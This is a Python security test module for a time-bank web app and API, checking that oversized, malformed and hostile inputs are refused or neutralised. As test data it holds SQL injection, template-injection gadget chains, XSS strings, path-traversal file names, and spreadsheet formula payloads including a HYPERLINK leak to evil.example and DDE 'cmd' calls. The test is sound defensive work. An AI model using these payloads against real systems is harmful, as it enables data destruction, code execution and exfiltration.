"""Hostile input (2 of 2): what an attacker types or uploads, each kind in a test of its own.

- Oversized bodies: JSON over 64 KiB (declared, chunked, or a Content-Length of a terabyte), CSV
  over 8 MiB, and the app's forms (a sign-in form of several fields each under the part limit,
  an upload over it): 413, before anything is read whole or written.
- JSON nested 10,000 deep, as a whole body and inside fields: a 4xx, never a recursion error.
- Invalid UTF-8 in JSON and CSV bodies, paths, query strings, headers and forms: a 4xx.
- Huge and out-of-range numbers (10**30, -2**63-1, 2**64, a 5000-digit integer, 1e400) in every
  kind of numeric field, query parameter and path parameter: a 422 naming the field.
- SQL and template injection strings (`'; DROP TABLE entries; --`, `{{7*7}}`, `<script>`...) as
  names, titles and notes: stored verbatim, returned unchanged as JSON, escaped in every page
  of the app and in the HTML report; every table still there.
- Path traversal in uploads (`../../etc/passwd` and friends as the file name of the app's CSV
  uploads, and as a Content-Disposition sent to the API's CSV imports): nothing is written
  anywhere, the name is only ever shown escaped; a multipart upload to the API is a 415.
- CSV and XLSX formula injection: a member, activity, partner, venue and offer named
  `=HYPERLINK(...)`, `+cmd|' /C calc'!A0`, `@SUM(...)`, `-2+3+cmd...`: in every export that
  carries the text (the report as CSV and XLSX, from the API and from the app's downloads; the
  till's statement CSV) the cell starts with a quote (CSV) or is a quote-prefixed text cell,
  never a formula (XLSX).

After each refused request the whole database is compared with a snapshot taken before it.
"""

from __future__ import annotations

import csv
import io
import json
import re
from collections import Counter
from collections.abc import AsyncIterator, Awaitable, Callable
from pathlib import Path
from typing import Any

import httpx
import markupsafe
import openpyxl
import pytest

from api.endpoints import MAX_CSV_BYTES, MAX_JSON_BYTES
from tests.api.conftest import app, app_client, db_path  # noqa: F401  (fixtures)
from tests.api.test_bad_input import (
    COST,
    OUTCOME,
    RATING,
    Targets,
    claims_to_act_on,
    json_writes,
    refusal,
    who,
)
from tests.api.test_vouchers_api import agree, give_credits, settle, voucher
from tests.api.world import ACTIVITY, World, log_hours, period
from tests.conftest import Clock, snapshot
from tests.reliability.conftest import Figures
from tests.web.conftest import Pages, browser, world  # noqa: F401  (fixtures)
from tests.web.test_commissioner import VALUATION, download

pytestmark = [pytest.mark.slow, pytest.mark.both_backends]

ROOT = Path(__file__).resolve().parent.parent.parent
V1 = "/api/v1"
JSON = {"Content-Type": "application/json"}
CSV = {"Content-Type": "text/csv"}
Browser = Callable[[str], Awaitable[Pages]]
_CSRF = re.compile(r'name="csrf" value="([^"]+)"')
_KEY = re.compile(r'name="key" value="([^"]+)"')


@pytest.fixture
async def targets(app_client: httpx.AsyncClient, world: World, clock: Clock) -> Targets:  # noqa: F811
    return await claims_to_act_on(app_client, world, clock)


def tokens(html: str) -> dict[str, str]:
    """The CSRF token and idempotency key of the first form on a page."""
    found = {"csrf": _CSRF.findall(html)[0]}
    keys = _KEY.findall(html)
    return found | ({"key": keys[0]} if keys else {})


class Attempts:
    """Requests that must each be refused with a given status (and field), leaving the
    database as it was; failures are collected, statuses counted."""

    def __init__(self, db_url: str) -> None:
        self.db_url = db_url
        self.failures: list[str] = []
        self.statuses: Counter[int] = Counter()
        self.sent = 0

    async def expect(
        self, name: str, send: Awaitable[httpx.Response], status: int | tuple[int, ...],
        field: str | None = None, *, problem: bool = True, unchanged: bool = True,
    ) -> httpx.Response | None:  # fmt: skip
        """`unchanged`: the database must be as it was (False where a refusal is recorded,
        as a failed sign-in is, to throttle guessing)."""
        before = snapshot(self.db_url)
        try:
            r = await send
        except Exception as exc:  # in process, a 500's exception reaches the caller
            self.failures.append(f"{name}: raised {type(exc).__name__}: {str(exc)[:200]}")
            self.statuses[500] += 1
            return None
        self.sent += 1
        self.statuses[r.status_code] += 1
        allowed = status if isinstance(status, tuple) else (status,)
        why = None
        if r.status_code not in allowed:
            why = f"status {r.status_code}, not {status}: {r.text[:300]}"
        elif problem:
            why = refusal(r, r.status_code, field)
        if why is None and unchanged and snapshot(self.db_url) != before:
            why = "the database changed"
        if why:
            self.failures.append(f"{name}: {why}")
        return r

    def figures(self) -> dict[str, object]:
        return {"requests": self.sent, "statuses": dict(sorted(self.statuses.items())),
                "failures": len(self.failures)}  # fmt: skip


# ---- oversized bodies -------------------------------------------------------------------------


async def chunks(data: bytes, size: int = 64 * 1024) -> AsyncIterator[bytes]:
    for i in range(0, len(data), size):
        yield data[i : i + size]


async def test_oversized_bodies_get_a_413_and_write_nothing(
    app_client: httpx.AsyncClient, world: World, db_url: str, browser: Browser,  # noqa: F811
    figures: Figures,
) -> None:  # fmt: skip
    c, w, tries = app_client, world, Attempts(db_url)
    claims = f"{V1}/schemes/taff/claims"
    m1 = w.as_("taff", "member") | JSON
    big = json.dumps({"activity": "garden", "date": "2025-12-31", "minutes": 60,
                      "note": "x" * MAX_JSON_BYTES}).encode()  # fmt: skip
    await tries.expect("JSON over 64 KiB", c.post(claims, content=big, headers=m1), 413, "body")
    await tries.expect("JSON over 64 KiB, chunked", c.post(claims, content=chunks(big),
                       headers=m1), 413, "body")  # fmt: skip
    await tries.expect("a terabyte declared", c.post(claims, content=b"{}",
                       headers=m1 | {"Content-Length": str(10**12)}), 413, "body")  # fmt: skip
    huge_csv = b"id,display_name\n" + b"N1,x\n" * (MAX_CSV_BYTES // 5 + 1)
    coordinator = w.as_("taff", "coordinator") | CSV
    await tries.expect("CSV over 8 MiB", c.post(f"{V1}/schemes/taff/imports/members",
                       content=huge_csv, headers=coordinator), 413, "body")  # fmt: skip
    await tries.expect("CSV over 8 MiB, chunked", c.post(f"{V1}/schemes/taff/imports/members",
                       content=chunks(huge_csv), headers=coordinator), 413, "body")  # fmt: skip
    # the app's forms: an upload over the limit, and a form of fields each under it
    pages = await browser("taff-coordinator")
    form = tokens((await pages.get("/s/taff/coordinate/import")).text)
    upload = {"file": ("members.csv", huge_csv, "text/csv")}
    await tries.expect("an upload over 8 MiB", pages.client.post(
        "/s/taff/coordinate/import", data=form | {"kind": "members"}, files=upload),
        413, problem=False)  # fmt: skip
    # a form of fields each under the part limit (8 MiB) but 14 MiB in all, to a page anyone
    # may post to; declared, then chunked
    visitor = await browser("")
    signin = tokens((await visitor.get("/sign-in")).text)
    padded = signin | {"login": "x" * (7 * 2**20), "password": "y" * (7 * 2**20)}
    await tries.expect("a sign-in form of 14 MiB", visitor.client.post("/sign-in", data=padded),
                       413, problem=False)  # fmt: skip
    urlencoded = "&".join(f"{k}={v}" for k, v in padded.items()).encode()
    form_type = {"Content-Type": "application/x-www-form-urlencoded"}
    await tries.expect("a sign-in form of 14 MiB, chunked", visitor.client.post(
        "/sign-in", content=chunks(urlencoded), headers=form_type), 413, problem=False)  # fmt: skip
    doc = (await c.get(f"{V1}/openapi.json")).json()  # and the document says so
    for path in ("/schemes/{scheme}/claims", "/schemes/{scheme}/imports/members"):
        assert {"413", "415"} <= set(doc["paths"][V1 + path]["post"]["responses"]), path
    figures(**tries.figures(), largest_body_bytes=len(urlencoded))
    assert tries.failures == []


# ---- deep JSON --------------------------------------------------------------------------------

DEPTH = 10_000


def deep_list(depth: int = DEPTH) -> str:
    return "[" * depth + "]" * depth


def deep_object(depth: int = DEPTH) -> str:
    return '{"a":' * depth + "1" + "}" * depth


async def test_json_nested_ten_thousand_deep_is_a_4xx_never_a_recursion_error(
    app_client: httpx.AsyncClient, world: World, db_url: str, clock: Clock, targets: Targets,  # noqa: F811
    figures: Figures,
) -> None:  # fmt: skip
    c, w, tries = app_client, world, Attempts(db_url)
    for role, template, valid in json_writes(clock):
        path = V1 + targets.fill(template)
        h = who(w, role) | JSON
        for name, body in (("list", deep_list()), ("object", deep_object())):
            await tries.expect(f"{template} as a deep {name}", c.post(
                path, content=body.encode(), headers=h), 422, "body")  # fmt: skip
        field = next(iter(valid))  # a deep value inside the first field
        inside = json.dumps(valid | {field: "@"}).replace('"@"', deep_list())
        await tries.expect(f"{template} with a deep {field}", c.post(
            path, content=inside.encode(), headers=h), 422)  # fmt: skip
    # where a body holds free-form JSON: a catalogue's content, a member's attributes
    content = json.dumps({"version": "local.9", "content": "@"}).replace('"@"', deep_object())
    await tries.expect("catalogue content", c.post(f"{V1}/schemes/taff/catalogues",
                       content=content.encode(), headers=w.as_("taff", "scheme-admin") | JSON),
                       422)  # fmt: skip
    figures(**tries.figures(), depth=DEPTH, endpoints=len(json_writes(clock)))
    assert tries.failures == []


# ---- invalid UTF-8 ----------------------------------------------------------------------------

BAD_UTF8 = {
    "a lone continuation byte": b"\x80",
    "0xff": b"\xff",
    "an overlong slash": b"\xc0\xaf",
    "a surrogate": b"\xed\xa0\x80",
    "a truncated sequence": b"\xe2\x82",
}


async def test_invalid_utf8_in_bodies_paths_queries_headers_and_forms_is_refused(
    app_client: httpx.AsyncClient, world: World, db_url: str, browser: Browser,  # noqa: F811
    figures: Figures,
) -> None:  # fmt: skip
    c, w, tries = app_client, world, Attempts(db_url)
    m1, coordinator = w.as_("taff", "member"), w.as_("taff", "coordinator")
    for name, bad in BAD_UTF8.items():
        body = b'{"activity": "garden", "date": "2025-12-31", "minutes": 60, "note": "' + bad
        await tries.expect(f"JSON with {name}", c.post(f"{V1}/schemes/taff/claims",
                           content=body + b'"}', headers=m1 | JSON), 422, "body")  # fmt: skip
        await tries.expect(f"CSV with {name}", c.post(f"{V1}/schemes/taff/imports/members",
                           content=b"id,display_name\nN1,Ann" + bad + b"\n",
                           headers=coordinator | CSV), 422, "body")  # fmt: skip
        escaped = "".join(f"%{b:02X}" for b in bad)
        await tries.expect(f"a path with {name}", c.get(
            f"{V1}/schemes/taff/members/M1{escaped}", headers=coordinator),
            (404, 422))  # fmt: skip
        await tries.expect(f"a scheme with {name}", c.get(f"{V1}/schemes/{escaped}/claims",
                           headers=coordinator), 404, "scheme")  # fmt: skip
        await tries.expect(f"a query with {name}", c.get(
            f"{V1}/schemes/taff/claims?status={escaped}", headers=coordinator),
            422, "status")  # fmt: skip
        await tries.expect(f"a cursor with {name}", c.get(
            f"{V1}/schemes/taff/claims?cursor={escaped}", headers=coordinator),
            422, "cursor")  # fmt: skip
        keyed = [(k.encode(), v.encode()) for k, v in (m1 | JSON).items()]
        keyed.append((b"Idempotency-Key", b"k" + bad))
        claim = b'{"activity": "garden", "date": "2025-12-31", "minutes": 60}'
        await tries.expect(f"an Idempotency-Key with {name}", c.post(
            f"{V1}/schemes/taff/claims", content=claim, headers=keyed),
            422, "idempotency-key")  # fmt: skip
        auth = [(b"Authorization", b"Bearer tb_" + bad)]
        await tries.expect(f"an Authorization with {name}", c.get(
            f"{V1}/schemes", headers=auth), 401, "authorization")  # fmt: skip
    # the app's forms: a field and an upload that are not UTF-8
    pages = await browser("taff-coordinator")
    form = tokens((await pages.get("/s/taff/coordinate/import")).text)
    latin1 = "id,display_name\nN1,Siân\n".encode("latin-1")
    await tries.expect("an upload in Latin-1", pages.client.post(
        "/s/taff/coordinate/import", data=form | {"kind": "members"},
        files={"file": ("members.csv", latin1, "text/csv")}), 422, problem=False)  # fmt: skip
    visitor = await browser("")
    signin = tokens((await visitor.get("/sign-in")).text)
    raw = "&".join(f"{k}={v}" for k, v in signin.items()) + "&login=%FF%FE&password=%C0%AF"
    await tries.expect("a sign-in form with invalid UTF-8", visitor.client.post(
        "/sign-in", content=raw.encode(),
        headers={"Content-Type": "application/x-www-form-urlencoded"}),
        (401, 422), problem=False, unchanged=False)  # fmt: skip
    figures(**tries.figures(), sequences=len(BAD_UTF8))
    assert tries.failures == []


# ---- huge numbers -----------------------------------------------------------------------------

HUGE: dict[str, Any] = {
    "10**30": 10**30, "-2**63-1": -(2**63) - 1, "2**63": 2**63, "2**64": 2**64,
    "5000 digits": "9" * 5000, "1e400": "1e400", "-1e400": "-1e400", "1.5": 1.5,
}  # fmt: skip


def with_number(body: dict[str, Any], field: str, value: Any) -> bytes:
    """`body` as JSON with `field` set to `value` (a string in HUGE is a raw JSON number)."""
    if isinstance(value, str):
        return json.dumps(body | {field: "@"}).replace('"@"', value).encode()
    return json.dumps(body | {field: value}).encode()


async def test_huge_numbers_are_a_422_naming_the_field(
    app_client: httpx.AsyncClient, world: World, db_url: str, clock: Clock, targets: Targets,  # noqa: F811
    figures: Figures,
) -> None:  # fmt: skip
    c, w, tries = app_client, world, Attempts(db_url)
    numeric: list[tuple[str, str, dict[str, Any], str]] = []
    for role, template, valid in json_writes(clock):
        for field, value in valid.items():
            if isinstance(value, int) and not isinstance(value, bool):
                numeric.append((role, template, valid, field))
    extra = [
        ("admin", "/schemes", {"id": "n1", "name": "N", "model": "time-credits"}, field)
        for field in ("min_minutes", "max_minutes", "member_floor", "auto_accept_hours",
                      "credit_expiry_months")
    ] + [
        ("taff:scheme-admin", "/schemes/taff/agreements",
         {"partner": "p-taff", "offers": ["swim"], "venues": ["hall"], "starts": "2020-01-01"},
         field) for field in ("voucher_hours", "monthly_cap")
    ] + [
        ("admin", "/partners/p-taff/offers", {"id": "sauna", "title": "Sauna", "credits": 2,
         "cash_price_pence": 900, "starts": "2026-01-01"}, field)
        for field in ("per_day", "per_week")
    ]  # fmt: skip
    numeric += extra
    for role, template, valid, field in numeric:
        path, h = V1 + targets.fill(template), who(w, role) | JSON
        for name, value in HUGE.items():
            # a number too long for any JSON parser to read (over 4300 digits) makes the
            # document unreadable: the refusal names the body
            named = "body" if name == "5000 digits" else field
            await tries.expect(f"{template} {field}={name}", c.post(
                path, content=with_number(valid, field, value), headers=h),
                422, named)  # fmt: skip
    coordinator = w.as_("taff", "coordinator")
    for path, param in (
        ("/claims", "limit"),
        ("/members", "limit"),
        ("/burnout", "weeks"),
        ("/burnout", "hours_per_week"),
        ("/requests/x/matches", "limit"),
    ):
        for name, value in HUGE.items():
            shown = str(value) if not isinstance(value, str) else value
            await tries.expect(f"{path}?{param}={name}", c.get(
                f"{V1}/schemes/taff{path}", params={param: shown}, headers=coordinator),
                422, param)  # fmt: skip
    reports = period(clock)
    for param in ("k", "horizon", "what_if_population", "what_if_weeks", "discount_start"):
        for name, value in HUGE.items():
            await tries.expect(f"/reports?{param}={name}", c.get(
                f"{V1}/schemes/taff/reports", params=reports | {param: str(value)},
                headers=coordinator), 422, param)  # fmt: skip
    for name, value in HUGE.items():
        await tries.expect(f"receipt seq {name}", c.get(
            f"{V1}/schemes/taff/members/M1/entries/{value}/receipt", headers=coordinator),
            422, "seq")  # fmt: skip
    figures(**tries.figures(), numeric_body_fields=len(numeric), values=len(HUGE))
    assert tries.failures == []


# ---- SQL and template injection ---------------------------------------------------------------

HOSTILE_TEXT = [
    "'; DROP TABLE entries; --",
    "Robert'); DELETE FROM members WHERE ('1'='1",
    "{{7*7}}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "${7*7}",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "%s%s%s%n",
]


async def test_injection_strings_are_stored_verbatim_and_shown_escaped_everywhere(
    app_client: httpx.AsyncClient, world: World, db_url: str, clock: Clock, browser: Browser,  # noqa: F811
    figures: Figures,
) -> None:  # fmt: skip
    c, w = app_client, world
    coordinator, admin = w.as_("taff", "coordinator"), w.admin
    made: list[tuple[str, dict[str, Any], str]] = []  # (path to read back, body, text field)
    for i, text in enumerate(HOSTILE_TEXT):
        member = {"id": f"H{i}", "display_name": text, "roles": ["member"], "contact": text,
                  "card_number": f"card-{i}"}  # fmt: skip
        activity = ACTIVITY | {"code": f"hostile-{i}", "title": text}
        for path, body in (("members", member), ("activities", activity)):
            r = await c.post(f"{V1}/schemes/taff/{path}", json=body, headers=coordinator)
            assert r.status_code == 201, r.text
        made.append((f"/schemes/taff/members/H{i}", member, "display_name"))
        r = await c.post(f"{V1}/schemes/taff/claims", headers=coordinator, json={
            "member": f"H{i}", "activity": f"hostile-{i}", "date": "2025-12-30", "minutes": 60,
            "note": text})  # fmt: skip
        assert r.status_code == 201, r.text
        made.append((f"/schemes/taff/claims/{r.json()['id']}", {"note": text}, "note"))
    r = await c.post(
        f"{V1}/partners",
        headers=admin,
        json={"id": "p-hostile", "name": HOSTILE_TEXT[0], "sector": "private"},
    )
    assert r.status_code == 201, r.text
    r = await c.post(f"{V1}/partners/p-taff/venues", headers=admin,
                     json={"id": "pool", "name": HOSTILE_TEXT[5]})  # fmt: skip
    assert r.status_code == 201, r.text
    # JSON: exactly what was sent
    unchanged = 0
    for path, body, field in made:
        r = await c.get(V1 + path, headers=coordinator)
        assert r.status_code == 200, r.text
        assert r.json()[field] == body[field]
        unchanged += 1
    listed = await c.get(f"{V1}/schemes/taff/activities", params={}, headers=coordinator)
    titles = {a["title"] for a in listed.json()["items"]}
    assert set(HOSTILE_TEXT) <= titles
    # every table is still there and holds what it did: nothing was executed
    tables = snapshot(db_url)
    assert {"entries", "members"} <= set(tables) or any("entries" in t for t in tables)
    # the app's pages: escaped, never markup or a template
    pages = await browser("taff-coordinator")
    seen = Counter[str]()
    urls = ["/s/taff/coordinate", "/s/taff/coordinate/members", "/s/taff/coordinate/activities"]
    urls += [f"/s/taff/coordinate/members/H{i}" for i in range(len(HOSTILE_TEXT))]
    claims = [p.rsplit("/", 1)[1] for p, _, f in made if f == "note"]
    urls += [f"/s/taff/coordinate/claims/{claim}" for claim in claims]
    problems = []
    for url in urls:
        page = (await pages.get(url)).text
        problems += unescaped(url, page)
        for text in HOSTILE_TEXT:
            if escaped(text) in page:
                seen[text] += 1
    till = await browser("taff-partner-staff")
    page = (await till.get("/s/taff/till/today")).text
    problems += unescaped("/s/taff/till/today", page)
    # the HTML report carries the activity titles: escaped too
    await log_hours(c, w, clock, [60])
    for i in range(len(HOSTILE_TEXT)):
        await give_hours(c, w, f"hostile-{i}", "M1")
    report = await c.get(f"{V1}/schemes/taff/reports", params=period(clock) | {"format": "html"},
                         headers=coordinator)  # fmt: skip
    assert report.status_code == 200, report.text
    problems += unescaped("the HTML report", report.text)
    figures(strings=len(HOSTILE_TEXT), stored_and_read_back=unchanged, pages=len(urls) + 2,
            shown_escaped={t[:20]: n for t, n in seen.items()})  # fmt: skip
    assert problems == []
    assert all(seen[t] > 0 for t in HOSTILE_TEXT), seen


def escaped(text: str) -> str:
    """`text` as the app's templates (Jinja2, autoescaped) show it."""
    return str(markupsafe.escape(text))


def unescaped(where: str, page: str) -> list[str]:
    """Markup from HOSTILE_TEXT that reached the page as markup, or a template evaluated."""
    found = []
    for bad in ("<script>alert(1)</script>", "<img src=x onerror=alert(1)>"):
        if bad in page:
            found.append(f"{where}: {bad}")
    return found


async def give_hours(c: httpx.AsyncClient, w: World, activity: str, member: str) -> None:
    r = await c.post(f"{V1}/schemes/taff/claims", headers=w.as_("taff", "coordinator"), json={
        "member": member, "activity": activity, "date": "2025-12-29", "minutes": 30})  # fmt: skip
    assert r.status_code == 201, r.text
    r = await c.post(f"{V1}/schemes/taff/claims/{r.json()['id']}/confirm",
                     headers=w.as_("taff", "coordinator"))  # fmt: skip
    assert r.status_code == 200, r.text


# ---- path traversal in uploads ----------------------------------------------------------------

FILE_NAMES = [
    "../../etc/passwd",
    "../../../../../../tmp/timebank-traversal.csv",
    "..\\..\\..\\windows\\win.ini",
    "/etc/cron.d/timebank",
    "C:\\Windows\\System32\\drivers\\etc\\hosts",
    "members.csv\x00.png",
    "<script>alert(1)</script>.csv",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
]


def files_under(*roots: Path) -> set[str]:
    return {str(p) for root in roots for p in root.rglob("*")
            if not p.name.startswith(("api.db", "ledger.db"))}  # fmt: skip


async def test_upload_file_names_with_path_traversal_write_nothing_and_are_shown_escaped(
    app_client: httpx.AsyncClient, world: World, db_url: str, tmp_path: Path, browser: Browser,  # noqa: F811
    targets: Targets, figures: Figures,
) -> None:  # fmt: skip
    c, w, tries = app_client, world, Attempts(db_url)
    watched = (tmp_path, ROOT / "tests", ROOT / "web", ROOT / "api")
    before = files_under(*watched)
    outside = [Path("/tmp/timebank-traversal.csv"), Path("/etc/cron.d/timebank")]
    assert not any(p.exists() for p in outside)
    coordinator = await browser("taff-coordinator")
    till = await browser("taff-partner-staff")
    members = b"id,display_name\nT1,Traversal Test\n"
    till_file = f"code,datetime,offer,venue\n{targets.code},2026-01-01T10:00:00,swim,hall\n"
    shown = 0
    for name in FILE_NAMES:
        form = tokens((await coordinator.get("/s/taff/coordinate/import")).text)
        r = await coordinator.client.post("/s/taff/coordinate/import", data=form | {
            "kind": "members"}, files={"file": (name, members, "text/csv")})  # fmt: skip
        assert r.status_code == 200, (name, r.status_code, r.text[:500])  # a preview
        assert unescaped(name, r.text) == []
        form = tokens((await till.get("/s/taff/till/reconcile")).text)
        r = await till.client.post("/s/taff/till/reconcile", data=form, files={
            "file": (name, till_file.encode(), "text/csv")})  # fmt: skip
        assert r.status_code < 500, (name, r.status_code, r.text[:500])
        assert unescaped(name, r.text) == []
        if r.status_code == 200 and "Result for" in r.text:
            shown += 1
    # the API's CSV imports take a body, not a file: a file name is ignored, multipart refused
    h = w.as_("taff", "coordinator")
    for name in FILE_NAMES[:3]:
        disposition = {"Content-Disposition": f'attachment; filename="{name}"'}
        r = await c.post(f"{V1}/schemes/taff/imports/members", content=members,
                         params={"preview": "true"}, headers=h | CSV | disposition)  # fmt: skip
        assert r.status_code == 200, r.text
        await tries.expect(f"multipart {name}", c.post(
            f"{V1}/schemes/taff/imports/members", headers=h,
            files={"file": (name, members, "text/csv")}), 415, "content-type")  # fmt: skip
    assert files_under(*watched) == before, files_under(*watched) ^ before
    assert not any(p.exists() for p in outside)
    figures(file_names=len(FILE_NAMES), uploads=2 * len(FILE_NAMES) + 6,
            results_shown=shown, new_files=0, **tries.figures())  # fmt: skip
    assert tries.failures == []


# ---- formula injection in CSV and XLSX --------------------------------------------------------

FORMULAS = {
    "member": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
    "activity": "+cmd|' /C calc'!A0",
    "second activity": '=HYPERLINK("http://evil.example","Garden")',
    "partner": "@SUM(1+1)*cmd|' /C calc'!A0",
    "venue": "-2+3+cmd|' /C calc'!A0",
    "offer": "=1+1",
    "tab": "\t=1+1",
}


def csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def formula_cells_in_csv(text: str) -> tuple[list[str], int]:
    """Cells a spreadsheet would run as formulas, and how many carried FORMULAS neutralised."""
    live, neutralised = [], 0
    for cell in csv_cells(text):
        if cell.startswith(("=", "+", "@", "\t", "\r")) or (
            cell.startswith("-") and not re.fullmatch(r"-\d+(\.\d+)?", cell)
        ):
            live.append(cell)
        if cell.startswith("'") and cell[1:] in FORMULAS.values():
            neutralised += 1
    return live, neutralised


def formula_cells_in_xlsx(data: bytes) -> tuple[list[str], int]:
    live, neutralised = [], 0
    wb = openpyxl.load_workbook(io.BytesIO(data))
    for ws in wb:
        for row in ws.iter_rows():
            for cell in row:
                value = cell.value
                if cell.data_type == "f":
                    live.append(f"{ws.title}!{cell.coordinate}: formula {value!r}")
                elif isinstance(value, str) and value.startswith(("=", "+", "-", "@", "\t")):
                    if not cell.quotePrefix:
                        live.append(f"{ws.title}!{cell.coordinate}: unmarked {value!r}")
                    elif value in FORMULAS.values():
                        neutralised += 1
    return live, neutralised


async def test_formula_injection_is_neutralised_in_every_csv_and_xlsx_export(
    app_client: httpx.AsyncClient, world: World, clock: Clock, browser: Browser,  # noqa: F811
    figures: Figures,
) -> None:  # fmt: skip
    c, w = app_client, world
    coordinator, admin = w.as_("taff", "coordinator"), w.admin
    r = await c.post(f"{V1}/schemes/taff/members", headers=coordinator, json={
        "id": "F1", "display_name": FORMULAS["member"], "roles": ["member"]})  # fmt: skip
    assert r.status_code == 201, r.text
    for code, key in (("formula", "activity"), ("formula-2", "second activity")):
        activity = ACTIVITY | {"code": code, "title": FORMULAS[key]}
        r = await c.post(f"{V1}/schemes/taff/activities", json=activity, headers=coordinator)
        assert r.status_code == 201, r.text
        await give_hours(c, w, code, "F1")
    r = await c.post(f"{V1}/partners/p-taff/venues", headers=admin,
                     json={"id": "pool", "name": FORMULAS["venue"]})  # fmt: skip
    assert r.status_code == 201, r.text
    r = await c.post(f"{V1}/partners/p-taff/offers", headers=admin, json={
        "id": "sauna", "title": FORMULAS["offer"], "credits": 1, "cash_price_pence": 500,
        "starts": "2020-01-01"})  # fmt: skip
    assert r.status_code == 201, r.text
    await agree(c, w, offers=["swim", "sauna"], venues=["hall", "pool"])
    r = await c.post(f"{V1}/partners", headers=admin, json={
        "id": "p-formula", "name": FORMULAS["partner"], "sector": "private"})  # fmt: skip
    assert r.status_code == 201, r.text
    await give_credits(c, w, clock, "M1", 240)
    for offer, venue in (("sauna", "pool"), ("swim", "pool"), ("sauna", "hall")):
        code = await voucher(c, w, offer=offer)
        r = await settle(c, w, code, venue=venue)
        assert r.status_code == 200, r.text
    for body in (OUTCOME | {"evidence_note": FORMULAS["tab"]}, COST | {"note": FORMULAS["offer"]},
                 RATING):  # fmt: skip
        path = {"w1": "outcomes", "c1": "costs", "r1": "ratings"}[str(body["id"])]
        r = await c.post(
            f"{V1}/schemes/taff/{path}",
            json=body,
            headers=w.as_("taff", "member" if path == "ratings" else "coordinator"),
        )
        assert r.status_code == 201, r.text
    exports: dict[str, tuple[list[str], int]] = {}
    q = period(clock) | VALUATION
    for fmt in ("csv", "xlsx"):
        r = await c.get(f"{V1}/schemes/taff/reports", params=q | {"format": fmt},
                        headers=w.as_("taff", "commissioner"))  # fmt: skip
        assert r.status_code == 200, r.text
        exports[f"API report .{fmt}"] = (formula_cells_in_csv(r.text) if fmt == "csv"
                                         else formula_cells_in_xlsx(r.content))  # fmt: skip
        pages = await browser("taff-commissioner")
        got = await download(pages, fmt, clock)
        exports[f"app's download .{fmt}"] = (formula_cells_in_csv(got.text) if fmt == "csv"
                                             else formula_cells_in_xlsx(got.content))  # fmt: skip
    till = await browser("taff-partner-staff")
    day = period(clock)["to"]
    statement = await till.get(f"/s/taff/till/statement.csv?start=2025-01-01&end={day}")
    exports["till statement .csv"] = formula_cells_in_csv(statement.text)
    live = {name: found[0] for name, found in exports.items() if found[0]}
    figures(exports=len(exports), injected=len(FORMULAS),
            neutralised_cells={name: found[1] for name, found in exports.items()},
            live_formulas=sum(len(v) for v in live.values()))  # fmt: skip
    assert live == {}
    assert all(found[1] > 0 for found in exports.values()), exports


def test_no_other_module_writes_csv_or_xlsx_without_the_shared_neutraliser() -> None:
    """Every CSV or XLSX export goes through timebank.spreadsheets: a new writer that does
    not is found here."""
    writers = {}
    for package in (
        "main",
        "web",
        "api",
        "identity",
        "valuation",
        "partners",
        "timebank",
        "ledger",
    ):
        for path in (ROOT / package).rglob("*.py"):
            text = path.read_text(encoding="utf-8")
            if re.search(r"csv\.(writer|DictWriter)\(|^from openpyxl import", text, re.M):
                writers[str(path.relative_to(ROOT))] = "spreadsheets" in text
    # CSV files the app writes for itself (re-imported, never opened by a person) need none
    internal = {"timebank/imports.py"}
    assert {p for p, safe in writers.items() if not safe} <= internal, writers
    assert len(writers) >= 4, writers
